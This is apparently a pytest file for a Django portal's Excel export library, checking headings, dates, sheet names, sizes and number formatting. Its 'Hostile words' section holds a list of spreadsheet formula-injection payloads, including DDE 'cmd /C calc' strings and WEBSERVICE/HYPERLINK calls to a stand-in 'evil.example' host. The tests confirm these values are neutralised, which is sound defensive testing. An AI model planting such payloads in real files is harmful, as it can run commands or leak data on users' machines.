"""Workbooks open in Excel as they were meant, and nothing in them is reckoned."""

import re
import tempfile
import tracemalloc
import zipfile
from datetime import UTC, date, datetime
from io import BytesIO
from xml.etree import ElementTree

import openpyxl
import pytest
from django.utils import timezone

from kim_portal.lib.numbers import figure
from kim_portal.lib.sheets import workbook
from kim_portal.lib.tables import Table, shown

NINE = datetime(2024, 11, 20, 2, 15, tzinfo=UTC)  # 09.15 WIB


@pytest.fixture(autouse=True)
def _western_time():
    with timezone.override("Asia/Jakarta"):
        yield


def opened(*tables, title="Laporan"):
    content = workbook(list(tables), title=title)
    return openpyxl.load_workbook(BytesIO(content))


def one_cell(value):
    sheet = opened(Table("Isi", ["Kolom"], [[value]])).active
    return sheet["A2"]


# --- What a spreadsheet shows ----------------------------------------------------


def test_a_sheet_has_its_heading_row_and_then_the_rows():
    table = Table("Kabar", ["Judul", "Jumlah"], [["Posyandu", 3], ["Rob", 4]])
    sheet = opened(table).active
    assert sheet.title == "Kabar"
    assert [[cell.value for cell in row] for row in sheet["A1:B3"]] == [
        ["Judul", "Jumlah"],
        ["Posyandu", 3],
        ["Rob", 4],
    ]


def test_the_heading_row_is_bold_stays_in_sight_and_filters():
    sheet = opened(Table("Kabar", ["Judul", "Jumlah"], [["Rob", 4]])).active
    assert all(cell.font.bold and cell.alignment.wrap_text for cell in sheet[1])
    assert not sheet["A2"].font.bold
    assert sheet["A2"].alignment.wrap_text
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:B2"
    assert sheet.print_title_rows == "$1:$1"


def test_numbers_are_numbers_and_an_unknown_one_is_an_empty_cell():
    row = [1248, 3.5, 0, None, True]
    sheet = opened(Table("Angka", list("abcde"), [row])).active
    assert [cell.value for cell in sheet[2]] == [1248, 3.5, 0, None, "Ya"]
    assert [cell.data_type for cell in sheet[2]] == ["n", "n", "n", "n", "s"]
    assert sheet["A2"].number_format == "#,##0"


def test_a_moment_is_a_date_on_the_wall_clock_here():
    cell = one_cell(NINE)
    assert cell.is_date
    assert cell.value == datetime(2024, 11, 20, 9, 15)  # noqa: DTZ001  # Excel knows no zones
    assert "hh" in cell.number_format
    with timezone.override("Asia/Jayapura"):
        assert one_cell(NINE).value.hour == 11


def test_a_day_is_a_date_without_a_clock():
    cell = one_cell(date(2024, 11, 27))
    assert cell.is_date
    assert cell.value.date() == date(2024, 11, 27)
    assert "hh" not in cell.number_format


def test_what_excel_cannot_count_is_written_as_words():
    assert one_cell(date(1899, 12, 31)).value == "31 Des 1899"
    assert one_cell(3375010101010001).data_type == "s"


def test_a_moment_without_a_zone_is_refused():
    with pytest.raises(ValueError, match="naive"):
        workbook([Table("x", ["a"], [[NINE.replace(tzinfo=None)]])], title="x")


def test_an_empty_table_keeps_its_headings_and_says_so():
    sheet = opened(Table("Ditarik", ["Judul", "Alasan"], [], note="Sejak Mei.")).active
    assert [row[0].value for row in sheet["A1:A4"]] == [
        "Judul",
        "Tidak ada.",
        None,
        "Sejak Mei.",
    ]
    assert sheet.auto_filter.ref is None


def test_the_note_stands_below_the_rows_and_outside_the_filter():
    sheet = opened(
        Table("Kabar", ["Judul"], [["Rob"]], note="Hanya\nyang terbit.")
    ).active
    assert sheet["A3"].value is None
    assert sheet["A4"].value == "Hanya yang terbit."
    assert sheet.auto_filter.ref == "A1:A2"


def test_columns_are_as_wide_as_needed_and_never_wider_than_a_screen():
    table = Table(
        "x", ["No", "Kelurahan", "Isi"], [[1, "Pasirkratonkramat", "a " * 900]]
    )
    widths = opened(table).active.column_dimensions
    assert widths["A"].width < widths["B"].width < widths["C"].width < 70
    assert widths["B"].width >= len("Pasirkratonkramat")


def test_there_must_be_a_table():
    with pytest.raises(ValueError, match="needs a table"):
        workbook([], title="x")


# --- Names of sheets -------------------------------------------------------------


@pytest.mark.parametrize(
    ("title", "name"),
    [
        ("Kabar [2024]: RW 03/04 *penuh*?", "Kabar 2024 RW 03 04 penuh"),
        ("'kutip'", "kutip"),
        ("", "Tabel"),
        ("://\\", "Tabel"),
        ("a\x00b\x1fc", "abc"),
        ("History", "History (2)"),
        (
            "Aspirasi warga yang belum dijawab kelurahan",
            "Aspirasi warga yang belum dija…",
        ),
        ("😀" * 20, "😀" * 15 + "…"),
    ],
)
def test_a_sheet_gets_a_name_excel_accepts(title, name):
    assert opened(Table(title, ["a"], [])).sheetnames == [name]


def test_sheets_of_the_same_title_differ_whatever_the_case():
    long = "Kabar terbit menurut kelurahan dan bulan"
    tables = [
        Table(t, ["a"], []) for t in [long, long.upper(), long, "x", "X", "x (2)"]
    ]
    names = opened(*tables).sheetnames
    assert len({name.lower() for name in names}) == 6
    assert max(map(len, names)) <= 31


# --- Hostile words ---------------------------------------------------------------

VECTORS = [
    "=1+1",
    '=HYPERLINK("http://evil.example","Klik")',
    "=cmd|' /C calc'!A0",
    '=WEBSERVICE("http://evil.example/"&A1)',
    "+1+1",
    "+cmd|' /C notepad'!'A1'",
    "-1+1",
    '-2+3+cmd|" /C calc"!A0',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\x00=1+1",
    "   =1+1",
    "\u200b=1+1",
    "\ufeff@SUM(1)",
    "＝1+1",
    "＋1",
    "－1＋1",
    "＠SUM(1)",
]


@pytest.mark.parametrize("words", VECTORS)
def test_words_that_look_like_a_formula_stay_words(words):
    table = Table(words, [words], [[words]], note=words)
    content = workbook([table], title=words)
    sheet = openpyxl.load_workbook(BytesIO(content)).active
    for cell in (sheet["A1"], sheet["A2"], sheet["A4"]):
        assert cell.data_type == "s"
        # The apostrophe holds also when the sheet is saved as CSV and read again.
        assert cell.value.startswith("'")
        assert cell.hyperlink is None
    xml = zipfile.ZipFile(BytesIO(content)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in xml
    assert b"<hyperlink" not in xml


def test_addresses_and_digits_stay_words_too():
    for words in ("http://contoh.id/a", "mailto:a@contoh.id", "007", "1e5", "_x0041_"):
        cell = one_cell(words)
        assert (cell.data_type, cell.hyperlink) == ("s", None)
    assert one_cell("007").value == "007"


def test_ordinary_words_are_written_as_they_are():
    for words in ("Posyandu = sehat", "RW 03–04", "Rp5.000 & lebih <b>", "a\nb", "🙏"):
        assert one_cell(words).value == words


def test_signs_xml_refuses_are_left_out_and_the_rest_stays():
    hostile = "".join(map(chr, [*range(32), *range(0x7F, 0xA0)])) + "\ud800\ufffe\uffff"
    content = workbook([Table(hostile, [hostile], [[f"a{hostile}b"]])], title=hostile)
    book = zipfile.ZipFile(BytesIO(content))
    for part in book.namelist():
        ElementTree.fromstring(book.read(part))  # noqa: S314  # our own file
    value = openpyxl.load_workbook(BytesIO(content)).active["A2"].value
    assert re.sub(r"\s|_x000D_", "", value) == "ab"


@pytest.mark.parametrize("words", ["a" * 40_000, "🙏" * 20_000, "=" + "1" * 40_000])
def test_a_text_longer_than_a_cell_ends_in_an_ellipsis(words):
    value = one_cell(words).value
    assert len(value.encode("utf-16-le")) // 2 in (32_766, 32_767)
    assert value.endswith("…")


def test_a_title_cannot_steer_the_header_on_paper():
    sheet = opened(Table("&C&A" * 90, ["a"], []), title="Air & api &P").active
    header = zipfile.ZipFile(BytesIO(workbook([Table("&D", ["a"], [])], title="&P")))
    xml = header.read("xl/worksheets/sheet1.xml").decode()
    assert "&amp;L&amp;&amp;P&amp;R&amp;&amp;D" in xml
    assert sheet.print_title_rows == "$1:$1"


# --- Size ------------------------------------------------------------------------


def test_twenty_thousand_rows_cost_little_memory_and_leave_nothing_behind(
    tmp_path, monkeypatch
):
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    rows = [[n, f"Kabar nomor {n}", NINE, 3.5, None] for n in range(20_000)]
    table = Table("Besar", ["No", "Judul", "Waktu", "Jam", "Catatan"], rows)
    tracemalloc.start()
    content = workbook([table], title="Besar")
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert peak < 10_000_000
    assert list(tmp_path.iterdir()) == []
    sheet = openpyxl.load_workbook(BytesIO(content), read_only=True).active
    assert sheet.max_row == 20_001
    assert (
        next(sheet.iter_rows(min_row=20_001, values_only=True))[1]
        == "Kabar nomor 19999"
    )


def test_a_failing_table_leaves_nothing_behind_either(tmp_path, monkeypatch):
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    with pytest.raises(ValueError, match="naive"):
        workbook([Table("x", ["a"], [["rahasia"], [datetime(2024, 1, 1)]])], title="x")  # noqa: DTZ001
    assert list(tmp_path.iterdir()) == []


# --- Tables ----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("cell", "words"),
    [
        (None, "–"),
        ("=1+1", "=1+1"),
        (1248, "1.248"),
        (-1248, "-1.248"),
        (3.5, "3,5"),
        (4.0, "4,0"),
        (12.25, "12,3"),
        (0.0, "0,0"),
        (0.04, "0,04"),
        (True, "Ya"),
        (False, "Tidak"),
        (NINE, "20 Nov 2024, 09.15"),
        (date(2024, 8, 17), "17 Agu 2024"),
    ],
)
def test_a_cell_reads_as_people_write_it(cell, words):
    assert shown(cell) == words


def test_a_figure_of_any_size_can_be_written():
    assert figure(10**30).count(".") == 10
    assert figure(1e300, 1).endswith(",0")


@pytest.mark.parametrize(
    ("columns", "rows"),
    [
        ([], []),
        (["a", "b"], [[1]]),
        (["a"], [[1, 2]]),
        (["a"], [[float("nan")]]),
        (["a"], [[float("inf")]]),
    ],
)
def test_a_table_refuses_rows_that_do_not_fit(columns, rows):
    with pytest.raises(ValueError, match="x"):
        Table("x", columns, rows)
